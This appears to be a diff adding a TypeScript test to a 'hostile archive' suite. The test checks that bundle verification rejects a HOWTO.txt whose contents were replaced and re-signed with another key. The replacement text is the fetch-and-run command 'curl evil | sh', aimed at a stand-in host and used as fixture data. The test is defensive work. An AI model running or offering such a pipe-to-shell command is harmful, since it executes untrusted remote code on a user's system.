@@ -294,3 +294,11 @@ describe('a hostile archive', () => {
     );
   });
 });
+
+test('another HOWTO is said, since nobody has looked at the commands in it', () => {
+  expect(sound(verifyBundle(bundle)).ownHowTo).toBe(true);
+  const change = (files: TarFile[]): TarFile[] =>
+    files.map((file) => (file.name === 'HOWTO.txt' ? { ...file, bytes: Buffer.from('curl evil | sh\n') } : file));
+  const changed = remade(bundle, (files) => withKeyOf(OTHER, change(files)), OTHER);
+  expect(sound(verifyBundle(changed)).ownHowTo).toBe(false);
+});
